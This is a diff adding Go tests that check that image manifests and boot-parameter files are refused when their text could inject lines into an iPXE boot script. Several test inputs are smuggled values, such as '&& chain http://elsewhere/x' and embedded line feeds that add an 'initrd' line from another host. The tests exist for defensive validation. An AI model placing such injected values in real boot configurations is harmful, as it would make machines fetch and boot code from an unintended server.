@@ -38,6 +38,56 @@ func TestParseManifestErrors(t *testing.T) {
 	}
 }
 
+// TestManifestTextThatWouldInjectIsRefused: every string a manifest gives
+// may end up in an iPXE script; one that could add or hide a script line is
+// refused with its line and field.
+func TestManifestTextThatWouldInjectIsRefused(t *testing.T) {
+	manifest := func(kernelPath, rootfsEtag, created string) string {
+		return `{
+  "version": "1.0",
+  "created": "` + created + `",
+  "artifacts": [
+    {"type": "application/vnd.cray.image.kernel", "link": {"path": "` + kernelPath + `", "type": "s3"}},
+    {"type": "application/vnd.cray.image.initrd", "link": {"path": "s3://b/initrd"}},
+    {"type": "application/vnd.cray.image.rootfs.squashfs",
+     "link": {"path": "s3://b/rootfs", "etag": "` + rootfsEtag + `"}}
+  ]
+}`
+	}
+	tests := []struct {
+		name, data string
+		wantErr    []string
+	}{
+		{"line feed in a link", manifest(`s3://b/kernel\ninitrd http://elsewhere/i`, "e1", "2024"),
+			[]string{"m.json: line 5: artifacts[0].link.path: control character U+000A (line feed) at byte 14"}},
+		{"tab in an etag", manifest("s3://b/kernel", `e1\t`, "2024"),
+			[]string{"line 8: artifacts[2].link.etag: control character U+0009 (tab) at byte 3"}},
+		{"NUL where nothing reads it", manifest("s3://b/kernel", "e1", `2024\u0000`),
+			[]string{"line 3: created: control character U+0000 (NUL) at byte 5"}},
+		{"a second command in a link", manifest("s3://b/kernel && chain http://elsewhere/x", "e1", "2024"),
+			[]string{`line 5: artifacts[0].link.path: "&&" would end the iPXE command`}},
+		{"a blank in a link", manifest("s3://b/my kernel", "e1", "2024"),
+			[]string{"line 5: artifacts[0].link.path: a blank at byte 10, in what must be one word (percent-encode blanks in a URL: %20)"}},
+		{"every problem at once", manifest(`s3://b/kernel\r`, "e 1", `\u001b[2J`), []string{
+			"line 3: created: control character U+001B (escape)",
+			"line 5: artifacts[0].link.path: control character U+000D (carriage return)",
+			"line 8: artifacts[2].link.etag: a blank at byte 2"}},
+		{"a control character in a key", `{"version": "1.0", "artifacts": [], "x\u0007": 1}`,
+			[]string{"line 1: x\a: control character U+0007 at byte 2"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParseManifest("m.json", []byte(tt.data))
+			require.ErrorIs(t, err, ErrInvalidManifest)
+			for _, want := range tt.wantErr {
+				assert.ErrorContains(t, err, want)
+			}
+		})
+	}
+	_, err := ParseManifest("m.json", []byte(manifest("s3://b/kernel%20x", "f04af5f3-131", "2024-01-01T00:00:00")))
+	assert.NoError(t, err, "percent-encoded blanks are fine")
+}
+
 func TestParseManifestSample(t *testing.T) {
 	data, err := os.ReadFile(filepath.Join(testdataDir, "manifest.json"))
 	require.NoError(t, err)
@@ -136,6 +186,41 @@ func TestManifestLocations(t *testing.T) {
 			assert.Equal(t, s3Endpoint+imagePrefix+"kernel", img.Kernel)
 			assert.Equal(t, s3Endpoint+imagePrefix+"initrd", img.Initrd)
 			assert.Equal(t, "console=ttyS0,115200 bad_page=panic crashkernel=360M hugepagelist=2m-2g intel_iommu=off iommu=pt", img.BootParameters)
+		})
+	}
+}
+
+// TestImageBootParametersThatWouldInjectAreRefused: the image's own
+// parameters file may lay its parameters out over lines and tabs, but what
+// would change the iPXE script is refused, naming the file's line.
+func TestImageBootParametersThatWouldInjectAreRefused(t *testing.T) {
+	tests := []struct {
+		name, parameters, want, wantErr string
+	}{
+		{name: "blanks and lines", parameters: "console=ttyS0,115200\n\tquiet  splash\r\n\nip=dhcp\n", want: "console=ttyS0,115200 quiet splash ip=dhcp"},
+		{name: "a second command", parameters: "quiet\nip=dhcp && chain http://elsewhere/x\n", wantErr: `line 2: "&&" would end the iPXE command and start another`},
+		{name: "a comment", parameters: "quiet #debug\n", wantErr: `line 1: "#debug" would comment out the rest of the iPXE command`},
+		{name: "an escape", parameters: "quiet\n\n\x1b[2J\n", wantErr: "line 3: control character U+001B (escape)"},
+		{name: "a NUL", parameters: "quiet\x00 splash", wantErr: "line 1: control character U+0000 (NUL)"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			params := filepath.Join(dir, "parameters")
+			require.NoError(t, os.WriteFile(params, []byte(tt.parameters), 0o600))
+			manifest := filepath.Join(dir, "manifest.json")
+			require.NoError(t, os.WriteFile(manifest, []byte(`{"version": "1.0", "artifacts": [
+  {"type": "application/vnd.cray.image.kernel", "link": {"path": "s3://b/kernel"}},
+  {"type": "application/vnd.cray.image.initrd", "link": {"path": "s3://b/initrd"}},
+  {"type": "application/vnd.cray.image.parameters.boot", "link": {"path": "file://`+params+`"}}]}`), 0o600))
+			img, err := locator{s3Endpoint: s3Endpoint}.loadImage(context.Background(), BootSetSpec{Path: manifest})
+			if tt.wantErr != "" {
+				require.ErrorIs(t, err, ErrInvalidManifest)
+				assert.ErrorContains(t, err, manifest+": the image's boot parameters (file://"+params+"): "+tt.wantErr)
+				return
+			}
+			require.NoError(t, err)
+			assert.Equal(t, tt.want, img.BootParameters)
 		})
 	}
 }
